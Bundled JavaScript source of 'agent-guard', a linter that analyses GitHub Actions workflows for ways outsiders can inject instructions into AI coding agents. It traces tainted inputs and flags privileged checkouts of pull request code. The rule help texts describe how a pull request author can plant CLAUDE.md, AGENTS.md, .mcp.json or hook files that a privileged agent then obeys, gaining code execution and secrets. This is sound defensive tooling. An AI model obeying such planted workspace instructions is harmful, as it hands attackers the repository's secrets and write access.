var indexes = /* @__PURE__ */ new WeakMap();
function sourceIndex(sources) {
  const known = indexes.get(sources);
  if (known) return known;
  const root = { children: /* @__PURE__ */ new Map(), contexts: [] };
  for (const context of sources.contexts) {
    let node = root;
    for (const segment of context.path.split(".")) {
      let next = node.children.get(segment);
      if (!next) node.children.set(segment, next = { children: /* @__PURE__ */ new Map(), contexts: [] });
      node = next;
    }
    node.contexts.push(context);
  }
  const memo = /* @__PURE__ */ new Map();
  const index2 = {
    contextsAbove(path14) {
      const cached3 = memo.get(path14);
      if (cached3) return cached3;
      const out = [];
      const walk = (node, segments, i) => {
        out.push(...node.contexts);
        if (i >= segments.length) return;
        const seg = segments[i];
        const exact = node.children.get(seg);
        if (exact) walk(exact, segments, i + 1);
        const star = node.children.get("*");
        if (star && seg !== "*") walk(star, segments, i + 1);
        if (seg === "*") {
          for (const [key2, child] of node.children) if (key2 !== "*") walk(child, segments, i + 1);
        }
      };
      walk(root, path14.split("."), 0);
      if (memo.size < 1e4) memo.set(path14, out);
      return out;
    }
  };
  indexes.set(sources, index2);
  return index2;
}

// src/analysis/sites.ts
var CHECKOUT_OF_PR = /head\.sha|head\.ref|head_ref|head_sha|head_branch|refs\/pull\/|pull\/\$|\bmerge\b|pull_request\.number|issue\.number|head\.repo/;
var FETCH_PR_IN_SHELL = /\bgh\s+pr\s+checkout\b|\bgit\s+fetch\b[^\n]*\bpull\/|\bgit\s+(checkout|switch)\b[^\n]*\$\{\{\s*github\.event\.(pull_request\.head|workflow_run\.head)/;
function findAgentSites(step, engine) {
  const out = [];
  const uses = step.step.uses;
  if (uses) {
    const action = matchAgentAction(uses.text);
    if (action) out.push(actionSite(step, uses, action, engine));
  }
  const script = step.step.run ?? guardActionScript(step);
  if (script && mayInvokeAgent(script.text, engine)) {
    const underAction = script !== step.step.run;
    const { masked, jailedFrom } = maskGuardWrapper(script.text);
    for (const invocation of findCliInvocations(masked)) {
      const jailed = underAction || jailedFrom.some((j) => j.start <= invocation.start && invocation.start <= j.lineEnd);
      out.push(cliSite(step, script, invocation, engine, jailed));
    }
  }
  return out;
}
function guardActionScript(step) {
  const uses = step.step.uses?.text ?? "";
  if (!/^[\w.-]+\/agent-guard(@|$)/i.test(uses)) return void 0;
  if ((inputOf(step.step.with, "mode")?.text.trim() ?? "lint") !== "run") return void 0;
  const run = inputOf(step.step.with, "run")?.value;
  return run?.kind === "scalar" ? run : void 0;
}
function runsWrappedClaude(step) {
  const path14 = inputOf(step.step.with, "path_to_claude_code_executable")?.text ?? "";
  return /agent-guard|claude-wrapper/.test(path14);
}
var agentWords = /* @__PURE__ */ new WeakMap();
function mayInvokeAgent(script, engine) {
  const data = engine.agentsData;
  let words = agentWords.get(data);
  if (!words) {
    const all = data.clis.flatMap((c) => [...c.commands, ...c.packages ?? [], ...c.modules ?? []]).map((w) => w.split(/\s+/)[0]);
    const alternatives = [...new Set(all)].map((w) => w.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&")).join("|");
    words = new RegExp(`(?:^|[^\\w@.-])(?:${alternatives})(?![\\w-])`, "m");
    agentWords.set(data, words);
  }
  return words.test(script);
}
var GUARD_WRAPPER = /(?:\b(?:npx|bunx|pnpm\s+dlx|yarn\s+dlx)\s+(?:(?:-y|--yes)\s+)?)?(?:[\w./-]*\/)?agent-guard(?:@[\w.^~-]+)?\s+run\b[^\n]*?\s--\s/g;
function maskGuardWrapper(script) {
  const jailedFrom = [];
  if (!script.includes("agent-guard")) return { masked: script, jailedFrom };
  const masked = script.replace(GUARD_WRAPPER, (match, offset) => {
    const lineEnd = script.indexOf("\n", offset);
    jailedFrom.push({ start: offset, lineEnd: lineEnd === -1 ? script.length : lineEnd });
    return " ".repeat(match.length);
  });
  return { masked, jailedFrom };
}
function commandEnd(script, start) {
  let quote2 = null;
  for (let i = start; i < script.length; i++) {
    const c = script[i];
    if (c === "\\" && quote2 !== "'") {
      i++;
      continue;
    }
    if (quote2) {
      if (c === quote2) quote2 = null;
    } else if (c === '"' || c === "'") quote2 = c;
    else if (c === "\n") return i;
  }
  return script.length;
}
function actionSite(step, uses, action, engine) {
  const scope = { job: step.job, step };
  const channels = [];
  const input = (name) => inputOf(step.step.with, name);
  const promptParts = [];
  for (const name of action.promptInputs) {
    const entry = input(name);
    if (!entry) continue;
    promptParts.push(entry.text);
    channels.push({ kind: "prompt", name: `input ${name}`, taints: engine.ofNode(entry.value, step.file, scope), confidence: "high" });
  }
  const configInputs = /* @__PURE__ */ new Set([...action.configInputs ?? [], ...(action.toolWideners ?? []).map((w) => w.input)]);
  for (const name of configInputs) {
    const entry = input(name);
    if (!entry || action.promptInputs.includes(name)) continue;
    promptParts.push(entry.text);
    channels.push({ kind: "config", name: `input ${name}`, taints: engine.ofNode(entry.value, step.file, scope), confidence: "high" });
  }
  const promptText = promptParts.join("\n");
  for (const name of action.promptFileInputs ?? []) {
    const entry = input(name);
    if (entry) channels.push(fileChannel(step, engine, entry.text, `file named by input ${name}`));
  }
  channels.push(...envChannels(step, engine, promptText));
  const inputs = inputRecord(step);
  if (actionReadsThread(action, inputs)) {
    channels.push({
      kind: "thread",
      name: "the issue or pull request thread it fetches itself",
      taints: [{ origin: { kind: "thread", role: "thread", events: null, what: "the issue/PR thread (title, body, comments)" }, hops: [hopAt(step.file, uses.start, `${action.name} fetches the issue/PR thread into its prompt`)] }],
      confidence: "high"
    });
  }
  const fetch = runtimeFetch(promptParts.slice(0, action.promptInputs.filter((n) => input(n)).length).join("\n"));
  if (fetch) channels.push({ kind: "fetch", name: "text its prompt tells it to fetch", taints: [fetchTaint(fetch, hopAt(step.file, uses.start, `its prompt tells it to read ${fetch.what}`))], confidence: "medium" });
  for (const file of engine.taintedFiles(step)) {
    if (promptText.includes(file.path)) channels.push({ kind: "file", name: `file ${file.path} its prompt names`, taints: file.taints, confidence: "high" });
  }
  channels.push(...workspaceChannels(step));
  const tools = withRunnerNetwork(actionToolReach(action, inputs));
  if (!channels.some((c) => c.kind === "thread") && canFetch(tools, step) && pointsAtThread(promptText)) {
    channels.push(workedOnThread(step, uses.start));
  }
  const widened = gateWidener(action, step);
  const gate = action.gate;
  const actorGate = gate.kind === "write-access" && !(widened && widened.effect === "anyone" && !widened.inertWithout) ? { enforcedOn: (event) => !(gate.skippedOn ?? []).includes(event), description: `${action.name}'s own write-access check` } : void 0;
  const cliId = action.cli;
  const keyEnv = cliId ? engine.agentsData.clis.find((c) => c.id === cliId)?.keyEnv ?? [] : [];
  return {
    step,
    file: step.file,
    offset: uses.start,
    agentName: action.name,
    action,
    channels: channels.filter((c) => c.taints.length),
    capabilities: capabilitiesAt(step, { action, keyEnv, keyInProcess: actionKeyInProcess(action, inputs) }, tools, action.cli === "claude" && runsWrappedClaude(step)),
    actorGate,
    gateWidenedBy: widened,
    promptText
  };
}
function gateWidener(action, step) {
  for (const w of action.gate.wideners ?? []) {
    const entry = inputOf(step.step.with, w.input);
    const value = entry?.text.trim() ?? "";
    if (!entry || !value || /^false$/i.test(value)) continue;
    const listed = value.split(/[\s,]+/).filter(Boolean).map((v) => v.toLowerCase());
    const trust = step.job.trust;
    if (value !== "*" && listed.length && listed.every((l) => trust.users.has(l) || trust.bots.has(l))) continue;
    if (w.enablingValues && !w.enablingValues.some((v) => v.toLowerCase() === value.toLowerCase())) continue;
    const inert3 = w.requiresInput && !inputOf(step.step.with, w.requiresInput)?.text.trim() ? w.requiresInput : void 0;
    return { input: w.input, value, node: entry.value.kind === "scalar" ? entry.value : void 0, effect: w.effect, inertWithout: inert3 };
  }
  return void 0;
}
function cliSite(step, run, invocation, engine, jailed) {
  const scope = { job: step.job, step };
  const cli = invocation.cli;
  const script = run.text;
  const upTo = script.slice(0, commandEnd(script, invocation.start));
  const channels = [];
  channels.push({ kind: "script", name: "the run script that builds its prompt", taints: engine.shellText(upTo, run, 0, scope), confidence: "high" });
  channels.push(...envChannels(step, engine, upTo));
  const facts = scriptFacts(run, run.text);
  for (const file of engine.taintedFiles(step)) {
    if (upTo.includes(file.path) && !facts.files.some((f) => f.path === file.path && f.offset < invocation.start)) {
      channels.push({ kind: "file", name: `file ${file.path}`, taints: file.taints, confidence: "medium" });
    }
  }
  channels.push(...workspaceChannels(step));
  const tools = withRunnerNetwork(cliToolReach(invocation, stepEnvText(step)));
  if (canFetch(tools, step) && pointsAtThread(upTo)) channels.push(workedOnThread(step, run.start));
  const offset = locateInScalar(step.file, run, invocation.start, Math.max(1, invocation.end - invocation.start));
  return {
    step,
    file: step.file,
    offset,
    agentName: cli.name,
    cli,
    channels: channels.filter((c) => c.taints.length),
    capabilities: capabilitiesAt(step, { cli, keyEnv: cli.keyEnv }, tools, jailed),
    promptText: upTo
  };
}
function stepEnvText(step) {
  const out = {};
  for (const layer of [step.job.workflow.env, step.job.job.env, step.step.env]) for (const e of layer) out[e.name] = e.text;
  return out;
}
function inputRecord(step) {
  const out = {};
  for (const w of step.step.with) out[w.name] = w.text;
  return out;
}
var THREAD_IDENTITY = /^github\.event\.(issue\.(number|html_url|url)|pull_request\.(number|html_url|url)|number|discussion\.(number|html_url)|comment\.html_url)$/;
function pointsAtThread(text) {
  if (!text.includes("${{")) return false;
  return findTemplates(text).some((t) => (referencesOf(t.inner) ?? []).some((r) => THREAD_IDENTITY.test(r.path)));
}
function canFetch(tools, step) {
  return tools.shell !== "none" || tools.network || tools.writesFiles && step.step.with.some((w) => /token/i.test(w.name));
}
function workedOnThread(step, offset) {
  const fetch = { what: "the issue or pull request it is told to work on (it fetches the thread with its tools)", labelGated: false };
  return { kind: "fetch", name: "the issue or pull request its prompt points at", taints: [fetchTaint(fetch, hopAt(step.file, offset, "its prompt names the issue or pull request to work on"))], confidence: "medium" };
}
function withRunnerNetwork(reach) {
  return reach.shell === "full" ? { ...reach, network: true } : reach;
}
function envChannels(step, engine, promptText) {
  return engine.visibleEnv(step).filter((e) => e.taints.length).map((e) => {
    const named = mentionsName(promptText, e.name);
    return { kind: "env", name: `env ${e.name}`, taints: e.taints, confidence: named ? "high" : "medium" };
  });
}
function fileChannel(step, engine, path14, name) {
  const match = engine.taintedFiles(step).filter((f) => f.path === path14.trim() || path14.includes(f.path));
  return { kind: "file", name, taints: match.flatMap((m) => m.taints), confidence: "high" };
}
function workspaceChannels(step) {
  const out = [];
  for (const earlier of step.job.steps) {
    if (earlier.position >= step.position) break;
    const uses = earlier.step.uses?.text ?? "";
    if (/^actions\/checkout@/i.test(uses)) {
      const ref = inputOf(earlier.step.with, "ref");
      const repository = inputOf(earlier.step.with, "repository");
      const hit = [ref, repository].find((e) => e && CHECKOUT_OF_PR.test(e.text) && e.text.includes("${{"));
      if (hit) {
        out.push(workspace(step, earlier, hit.keyNode.start, `checks out the pull request's code (${hit.name}: ${hit.text.trim()})`, "pull_request"));
      }
    } else if (/^actions\/download-artifact@|^dawidd6\/action-download-artifact@/i.test(uses)) {
      out.push(workspace(step, earlier, earlier.step.uses.start, "downloads artifacts a fork-triggered run may have produced", "workflow_run"));
    } else if (earlier.step.run && FETCH_PR_IN_SHELL.test(earlier.step.run.text)) {
      out.push(workspace(step, earlier, earlier.step.run.start, "fetches and checks out the pull request's code", "pull_request"));
    }
  }
  return out;
}
function workspace(step, earlier, offset, note, role) {
  const events = role === "workflow_run" ? ["workflow_run"] : null;
  return {
    kind: "workspace",
    name: "instruction and config files in the checked-out workspace",
    taints: [{ origin: { kind: "fork-checkout", role, events, what: "pull request code and instruction files" }, hops: [hopAt(earlier.file, offset, `step '${earlier.step.label}' ${note}`)] }],
    confidence: role === "workflow_run" ? "medium" : "high"
  };
}
function mentionsName(text, name) {
  const isWord = (c) => !!c && /[A-Za-z0-9_]/.test(c);
  for (let i = text.indexOf(name); i !== -1; i = text.indexOf(name, i + 1)) {
    if (!isWord(text[i - 1]) && !isWord(text[i + name.length])) return true;
  }
  return false;
}

// src/checks/untrustedCheckout.ts
var RUNS_WORKSPACE_CODE = /(^|[\s;&|(])(npm|npx|yarn|pnpm|bun|bunx|node|deno|make|cmake|pip3?|python3?|uv|poetry|tox|pytest|go|cargo|mvn|gradle|\.\/gradlew|ant|rake|bundle|ruby|composer|php|dotnet|docker\s+(build|compose)|bash|sh|zsh|pwsh|\.\/[\w./-]+)(\s|$)/m;
var untrustedCheckout = {
  meta: {
    id: "untrusted-checkout",
    title: "A privileged job checks out an outsider's pull request and runs code from it",
    severity: "critical",
    docs: docsUrl("untrusted-checkout"),
    help: "Under pull_request_target or workflow_run the job has the base repository's secrets and a write token. After checking out the pull request's head, any build, test or install step runs the attacker's code (package.json scripts, Makefiles, conftest.py, local actions) \u2014 and any AI tool reads the attacker's CLAUDE.md, AGENTS.md and .mcp.json. Build and test untrusted code on `pull_request` (no secrets), and pass results to a privileged `workflow_run` job as data only."
  },
  run(ctx) {
    const findings = [];
    const sites = new Set(ctx.sites.map((s) => s.step));
    const instructionFiles = [...new Set(ctx.engine.agentsData.clis.flatMap((c) => c.instructionFiles))].filter((f) => f.length > 4);
    for (const step of ctx.steps) {
      const runsCode = runsWorkspaceCode(step, instructionFiles);
      if (!runsCode || sites.has(step)) continue;
      const channel = workspaceChannels(step)[0];
      if (!channel) continue;
      const taint = channel.taints[0];
      const reach = reachOf(taint.origin, step);
      if (reach.level !== "outsider") continue;
      const caps = shellCapabilities(step);
      const severity = severityFor(reach.level, caps);
      if (!severity) continue;
      const at = step.step.run?.start ?? step.step.uses?.start ?? step.step.node.start;
      findings.push({
        rule: "untrusted-checkout",
        severity,
        confidence: runsCode === "build" ? "high" : "medium",
        ...stepLocation(step, at),
        ...jobAndStep(step),
        message: runsCode === "ai-config" ? `step '${step.step.label}' feeds AI instruction or MCP files from the pull request's checkout to a tool: ${reach.how}.` : `step '${step.step.label}' runs code from the pull request's checkout: ${reach.how}.`,
        path: [...step.job.via, ...taint.hops, { ...stepLocation(step, at), note: "runs code the pull request controls" }],
        capabilities: capabilityList(caps),
        holder: "step",
        fix: "Check out the base branch (the default), or run this on `pull_request` where fork runs have no secrets; if you must read the PR's files, check them out into a subdirectory and never execute them. Set `persist-credentials: false`."
      });
    }
    return findings;
  }
};
function runsWorkspaceCode(step, instructionFiles) {
  const uses = step.step.uses?.text ?? "";
  if (uses.startsWith("./")) return "local-action";
  const run = step.step.run?.text;
  if (!run) return null;
  if (RUNS_WORKSPACE_CODE.test(run)) return "build";
  return instructionFiles.some((f) => run.includes(f.replace(/\/$/, ""))) ? "ai-config" : null;
}

// src/checks/untrustedInstructions.ts
var untrustedInstructions = siteRule(
  {
    id: "untrusted-instructions",
    title: "An AI agent runs on a checkout of an outsider's pull request",
    severity: "critical",
    docs: docsUrl("untrusted-instructions"),
    help: "Under a privileged trigger (pull_request_target, workflow_run, comments) the job checks out the pull request's code before the agent runs. The agent loads instruction and configuration files from the workspace (CLAUDE.md, AGENTS.md, .claude/settings.json hooks, .mcp.json servers, .gemini/, opencode.json, .cursorrules), so the pull request author writes its instructions and can make it run code. Check out the base branch at the root and the PR head in a subdirectory the agent only reads, or run on `pull_request` without secrets."
  },
  ["fork-checkout"],
  (site, hit) => `${site.agentName} runs on ${hit.taint.origin.what}${site.cli?.instructionFiles.length ? ` (it loads ${site.cli.instructionFiles.slice(0, 4).join(", ")})` : ""}`,
  "the agent loads its instructions from the workspace"
);

// src/online/uses.ts
var OWNER = /^[A-Za-z0-9](?:[A-Za-z0-9-]{0,38})$/;
var REPO = /^[A-Za-z0-9._-]{1,100}$/;
var SEGMENT = /^[^\s\\?#%]+$/;
var REF = /^[^\s\\~^:?*[\]]{1,255}$/;
function parseRemoteUses(uses) {
  const text = uses.trim();
  if (!text || text.startsWith(".") || isDockerUses(text) || text.includes("${{")) return null;
  const at = text.indexOf("@");
  if (at <= 0) return null;
  const ref = text.slice(at + 1);
  const parts = text.slice(0, at).replace(/\/+$/, "").split("/");
  if (parts.length < 2 || !OWNER.test(parts[0]) || !REPO.test(parts[1]) || parts[1] === "." || parts[1] === "..") return null;
  const rest = parts.slice(2);
  if (rest.some((p) => !p || p === "." || p === ".." || !SEGMENT.test(p))) return null;
  if (!REF.test(ref) || ref.includes("..")) return null;
  return { owner: parts[0], repo: parts[1], path: rest.join("/"), ref };
}
function isDockerUses(uses) {
  return /^docker:\/\//i.test(uses.trim());
}
function isWorkflowPath(path14) {
  return /^\.github\/workflows\/[^/]+\.ya?ml$/i.test(path14);
}
var FIRST_PARTY = /* @__PURE__ */ new Set(["actions", "github"]);
function isFirstPartyAction(ref) {
  return FIRST_PARTY.has(ref.owner.toLowerCase());
}
function isCommitSha(ref) {
  return /^[0-9a-f]{40}$/i.test(ref);
}
function repoKey(owner, repo) {
  return `${owner}/${repo}`.toLowerCase();
}
function describeRef(ref, file) {
  const inner = [ref.path, file].filter(Boolean).join("/");
  return `${ref.owner}/${ref.repo}${inner ? `/${inner}` : ""}@${ref.ref}`;
}

// src/checks/unresolvedRemote.ts
var unresolvedRemote = {
  meta: {
    id: "unresolved-remote",
    title: "A remote action or reusable workflow outsiders can reach was not followed",
    severity: "medium",
    docs: docsUrl("unresolved-remote"),
    help: "Outsider-controlled text (or the secrets of a run outsiders can start) goes into an action or reusable workflow of another repository that agent-guard did not read: offline, remote files are not fetched; online, the fetch failed (not found, private, rate limit). Unknown is not safe: a wrapper action may run an agent on that text. Run `agent-guard lint --online` with a token that can read the repository, or review the file yourself and pin it to that commit."
  },
  run(ctx) {
    const findings = [];
    for (const job of ctx.jobs) {
      const uses = job.job.uses;
      if (!uses) continue;
      const target = effectiveWorkflowUses(uses.text.trim(), job.workflow);
      if (target.startsWith("./")) continue;
      const why = notFollowed(ctx.remote, "workflow", target);
      if (!why) continue;
      const probe = callProbe(job);
      const taints = job.job.with.flatMap((e) => ctx.engine.ofNode(e.value, job.workflow.file, { job }));
      const finding2 = report("workflow", uses.text.trim(), uses, job.workflow.file, probe, taints, workflowSecrets(job), why);
      if (finding2) findings.push(finding2);
    }
    for (const step of ctx.steps) {
      const uses = step.step.uses;
      const text = uses?.text.trim();
      if (!uses || !text || text.startsWith("./")) continue;
      let why;
      if (isDockerUses(text)) {
        why = { reason: "docker image actions are not analysed (there is no action.yml to follow)", failed: false };
      } else {
        if (matchAgentAction(text)) continue;
        const ref = parseRemoteUses(text);
        if (ref && isFirstPartyAction(ref)) continue;
        why = notFollowed(ctx.remote, "action", text);
      }
      if (!why) continue;
      const taints = step.step.with.flatMap((e) => ctx.engine.ofNode(e.value, step.file, { job: step.job, step }));
      const finding2 = report("action", text, uses, step.file, step, taints, actionSecrets(step.step), why);
      if (finding2) findings.push(finding2);
    }
    return findings;
  }
};
function notFollowed(remote, kind, uses) {
  if (uses.includes("${{")) return { reason: "its target is an expression, which cannot be followed", failed: false };
  if (!remote) return { reason: "remote files are not fetched offline; run `agent-guard lint --online` to follow it", failed: false };
  const answer = kind === "action" ? remote.action(uses) : remote.workflow(uses);
  if (!answer) return { reason: "it was not fetched", failed: false };
  if ("error" in answer) return { reason: `it could not be fetched: ${answer.error}`, failed: true };
  return null;
}
function report(kind, uses, node, file, probe, taints, secrets, why) {
  let best = null;
  for (const taint of taints) {
    if (taint.origin.kind === "ai-output") continue;
    const reach2 = reachOf(taint.origin, probe);
    if (reach2.level === "none") continue;
    if (!best || REACH_ORDER[reach2.level] > REACH_ORDER[best.reach.level] || reach2.level === best.reach.level && taint.hops.length < best.taint.hops.length) {
      best = { taint, reach: reach2 };
    }
  }
  const label = kind === "workflow" ? "Reusable workflow" : "Action";
  const at = positionOf(file, node.start);
  const sink2 = { file: file.path, line: at.line, column: at.column, note: `${uses} is not followed: ${why.reason}` };
  let severity;
  let reach;
  let message;
  let path14;
  if (best) {
    reach = best.reach;
    severity = reach.level === "outsider" && (secrets || kind === "workflow") ? "medium" : "low";
    message = `${label} \`${uses}\` gets ${best.taint.origin.what}${secrets ? ` and ${secrets.text}` : ""}: ${reach.how}. What it does with them is unknown: ${why.reason}.`;
    path14 = [...probe.job.via, ...best.taint.hops, sink2];
  } else {
    if (kind !== "workflow" || !secrets) return null;
    reach = reachOf(TRIGGERING_ACTOR, probe);
    if (reach.level !== "outsider") return null;
    severity = "medium";
    message = `${label} \`${uses}\` gets ${secrets.text} in a run outsiders start, and sees the event's outsider-written text: ${reach.how}. What it does with them is unknown: ${why.reason}.`;
    path14 = [...probe.job.via, sink2];
  }
  return {
    rule: "unresolved-remote",
    severity,
    confidence: reach.uncertain ? "low" : "medium",
    file: file.path,
    line: at.line,
    column: at.column,
    job: probe.job.job.id,
    ...kind === "action" ? { step: probe.step.label, stepAt: stepAnchor(file, probe.step) } : {},
    message,
    path: path14,
    capabilities: secrets?.capabilities ?? [],
    holder: "step",
    fix: why.failed ? `${/rate limit/.test(why.reason) ? "Run again once the rate limit resets (or with `--on-rate-limit wait`)" : "Check that the reference exists and give the token read access to that repository (GitHub answers 404 for a private repository the token cannot read)"}; until then review the file yourself, pin it to a commit SHA, and pass it neither outsider text nor secrets it does not need.` : "Run `agent-guard lint --online` (with GITHUB_TOKEN or GH_TOKEN set) so agent-guard fetches it and follows the text inside. Pin it to a commit SHA you have reviewed, and pass it explicit secrets instead of `secrets: inherit`."
  };
}
function callProbe(job) {
  const step = { index: 0, node: job.job.node, label: job.job.id, uses: job.job.uses, with: job.job.with, env: [] };
  return { job, step, file: job.workflow.file, conditions: [], siblings: [], position: 0 };
}
function workflowSecrets(job) {
  const secrets = job.job.secrets;
  if (secrets === "inherit") return { text: "every secret (secrets: inherit)", capabilities: ["secret:* via secrets: inherit"] };
  if (!secrets?.length) return null;
  const names = secrets.map((s) => s.name);
  return { text: `secrets ${names.join(", ")}`, capabilities: names.map((n) => `secret:${n} via secrets: ${n}`) };
}
function actionSecrets(step) {
  const found = /* @__PURE__ */ new Map();
  const scan = (entries, where) => {
    for (const e of entries) for (const name of secretNames(e.text)) if (!found.has(name)) found.set(name, `${where} ${e.name}`);
  };
  scan(step.with, "input");
  scan(step.env, "env");
  if (!found.size) return null;
  return { text: `secrets ${[...found.keys()].join(", ")}`, capabilities: [...found].map(([n, via]) => `secret:${n} via ${via}`) };
}
function secretNames(text) {
  if (!text.includes("${{")) return [];
  const out = [];
  for (const template of findTemplates(text)) {
    const parsed = tryParseExpression(template.inner);
    if (parsed instanceof Error) continue;
    for (const ref of references(parsed)) {
      if (ref.path === "github.token") out.push("GITHUB_TOKEN");
      else if (ref.path.startsWith("secrets.") && ref.path.length > 8) out.push(ref.path.slice(8).toUpperCase());
    }
  }
  return out;
}

// src/checks/index.ts
var CHECKS = [promptInjection, agentReadsUntrusted, untrustedInstructions, agentGateDisabled, aiOutputUnsafe, templateInjection, untrustedCheckout, poisonedWorkspace, agentOutputLeak, unresolvedRemote];
var RULE_IDS = CHECKS.map((c) => c.meta.id);

// src/glob.ts
var import_picomatch = __toESM(require_picomatch2());
var MAX_WILDCARDS = 3;
var OPTIONS = { dot: true, nonegate: true, noextglob: true };
var compiled = /* @__PURE__ */ new Map();
function globProblem(pattern) {
  if (pattern.trim() === "") return "an empty pattern";
  const wildcards = pattern.match(/\*+/g)?.length ?? 0;
  if (wildcards > MAX_WILDCARDS) {
    return `'${pattern}' has ${wildcards} wildcards; at most ${MAX_WILDCARDS} are allowed (each one more multiplies the time to match a path)`;
  }
  return void 0;
}
function globMatch(pattern, file) {
  let matcher = compiled.get(pattern);
  if (!matcher) {
    const problem = globProblem(pattern);
    if (problem) throw new Error(`glob ${problem}`);
    compiled.set(pattern, matcher = (0, import_picomatch.default)(pattern, OPTIONS));
  }
  const segments = file.replace(/\\/g, "/").replace(/^(\.\/)+/, "").split("/");
  for (let i = 0; i < segments.length; i++) if (matcher(segments.slice(i).join("/"))) return true;
  return false;
}

// src/config.ts
var EMPTY_CONFIG = { ignore: [], severity: {}, trustedUsers: [], trustedBots: [], actions: [], clis: [] };
var ConfigError = class extends Error {
};
function readConfig(path14) {
  let text;
  try {
    text = import_node_fs2.default.readFileSync(path14, "utf8");
  } catch (err) {
    throw new ConfigError(`${path14}:1:1: cannot read config: ${err.code ?? "error"}`);
  }
  return parseConfig(path14, text);
}
function parseConfig(path14, text) {
  const file = makeSourceFile(path14, text);
  let root;
  try {
    root = loadYaml(file);
  } catch (err) {
    const pos = positionOf(file, err instanceof YamlLoadError ? err.offset : 0);
    throw new ConfigError(`${path14}:${pos.line}:${pos.column}: invalid YAML: ${err.message}`);
  }
  const config = { ignore: [], severity: {}, trustedUsers: [], trustedBots: [], actions: [], clis: [] };
  if (!root || root.kind === "scalar" && root.value === null) return config;
  const fail2 = (node, message) => {
    const pos = positionOf(file, node.start);
    throw new ConfigError(`${path14}:${pos.line}:${pos.column}: ${message}`);
  };
  const map = expectMap(root, "the config", fail2);
  for (const { key: key2, value } of map.pairs) {
    switch (key2.text) {
      case "ignore":
        config.ignore = expectSeq(value, "ignore", fail2).map((item) => readIgnore(item, fail2));
        break;
      case "severity":
        for (const p of expectMap(value, "severity", fail2).pairs) {
          const level = p.value.kind === "scalar" ? p.value.text : "";
          if (!SEVERITIES.includes(level)) fail2(p.value, `severity of '${p.key.text}' must be one of ${SEVERITIES.join(", ")}`);
          checkRuleId(p.key, p.key.text, fail2);
          config.severity[p.key.text] = level;
        }
        break;
      case "trusted-users":
        config.trustedUsers = strings(value, "trusted-users", fail2);
        break;
      case "trusted-bots":
        config.trustedBots = strings(value, "trusted-bots", fail2);
        break;
      case "agents":
        readAgents(value, config, fail2, file);
        break;
      default:
        fail2(key2, `unknown key '${key2.text}' (expected ignore, severity, trusted-users, trusted-bots, agents)`);
    }
  }
  return config;
}
function checkRuleId(node, id, fail2) {
  if (!RULE_IDS.includes(id)) fail2(node, unknownRuleMessage(id));
  return id;
}
function unknownRuleMessage(id) {
  return `unknown rule '${id}' (rules: ${RULE_IDS.join(", ")})`;
}
function expectMap(node, what, fail2) {
  if (node.kind !== "map") fail2(node, `${what} must be a mapping`);
  return node;
}
function expectSeq(node, what, fail2) {
  if (node.kind !== "seq") fail2(node, `${what} must be a list`);
  return node.items;
}
function strings(node, what, fail2) {
  return expectSeq(node, what, fail2).map((i) => i.kind === "scalar" ? i.text : fail2(i, `${what} entries must be strings`));
}
function readIgnore(node, fail2) {
  const out = {};
  for (const { key: key2, value } of expectMap(node, "an ignore entry", fail2).pairs) {
    if (value.kind !== "scalar") fail2(value, `'${key2.text}' must be a string`);
    const text = value.text;
    if (key2.text === "rule") out.rule = checkRuleId(value, text, fail2);
    else if (key2.text === "file") {
      const problem = globProblem(text);
      if (problem) fail2(value, `file: ${problem}`);
      out.file = text;
    } else if (key2.text === "job") out.job = text;
    else fail2(key2, `unknown key '${key2.text}' in ignore entry (expected rule, file, job)`);
  }
  if (!out.rule && !out.file && !out.job) fail2(node, "an ignore entry needs rule, file or job");
  return out;
}
function readAgents(node, config, fail2, file) {
  for (const { key: key2, value } of expectMap(node, "agents", fail2).pairs) {
    if (key2.text === "actions") {
      for (const item of expectSeq(value, "agents.actions", fail2)) config.actions.push(readAction(item, fail2));
    } else if (key2.text === "commands") {
      for (const item of expectSeq(value, "agents.commands", fail2)) config.clis.push(readCommand(item, fail2));
    } else fail2(key2, `unknown key '${key2.text}' in agents (expected actions, commands)`);
  }
  void file;
}
var SHELLS2 = ["full", "restricted", "none"];
function readAction(node, fail2) {
  const m = expectMap(node, "an agent action", fail2);
  const fields = {};
  for (const p of m.pairs) {
    if (!["uses", "name", "prompt-inputs", "key-inputs", "token-inputs", "shell", "network", "reads-thread"].includes(p.key.text)) {
      fail2(p.key, `unknown key '${p.key.text}' in agent action (expected uses, name, prompt-inputs, key-inputs, token-inputs, shell, network, reads-thread)`);
    }
    fields[p.key.text] = p.value;
  }
  if (!fields.uses || fields.uses.kind !== "scalar") fail2(node, "an agent action needs 'uses'");
  const uses = fields.uses.text;
  const shell = fields.shell?.kind === "scalar" ? fields.shell.text : "none";
  if (!SHELLS2.includes(shell)) fail2(fields.shell, `shell must be one of ${SHELLS2.join(", ")}`);
  return {
    id: `config:${uses}`,
    name: fields.name?.kind === "scalar" ? fields.name.text : uses,
    uses: [uses],
    promptInputs: fields["prompt-inputs"] ? strings(fields["prompt-inputs"], "prompt-inputs", fail2) : ["prompt"],
    keyInputs: fields["key-inputs"] ? strings(fields["key-inputs"], "key-inputs", fail2) : [],
    tokenInputs: fields["token-inputs"] ? strings(fields["token-inputs"], "token-inputs", fail2) : [],
    keyHandling: "process",
    gate: { kind: "none" },
    readsThread: fields["reads-thread"]?.kind === "scalar" && fields["reads-thread"].text === "true" ? "always" : "never",
    defaults: { shell, network: fields.network?.kind === "scalar" && fields.network.text === "true", writesFiles: shell !== "none" }
  };
}
function readCommand(node, fail2) {
  const m = expectMap(node, "an agent command", fail2);
  const fields = {};
  for (const p of m.pairs) {
    if (!["command", "name", "bypass-flags", "key-env", "shell"].includes(p.key.text)) {
      fail2(p.key, `unknown key '${p.key.text}' in agent command (expected command, name, bypass-flags, key-env, shell)`);
    }
    fields[p.key.text] = p.value;
  }
  if (!fields.command || fields.command.kind !== "scalar") fail2(node, "an agent command needs 'command'");
  const command2 = fields.command.text;
  const shell = fields.shell?.kind === "scalar" ? fields.shell.text : "full";
  if (!SHELLS2.includes(shell)) fail2(fields.shell, `shell must be one of ${SHELLS2.join(", ")}`);
  return {
    id: `config:${command2}`,
    name: fields.name?.kind === "scalar" ? fields.name.text : command2,
    commands: [command2],
    bypassFlags: fields["bypass-flags"] ? strings(fields["bypass-flags"], "bypass-flags", fail2) : [],
    defaults: { shell, network: shell === "full", writesFiles: true },
    keyEnv: fields["key-env"] ? strings(fields["key-env"], "key-env", fail2) : [],
    instructionFiles: []
  };
}

// src/action/lint.ts
var import_node_fs6 = __toESM(require("node:fs"));
var import_node_path4 = __toESM(require("node:path"));

// src/baseline.ts
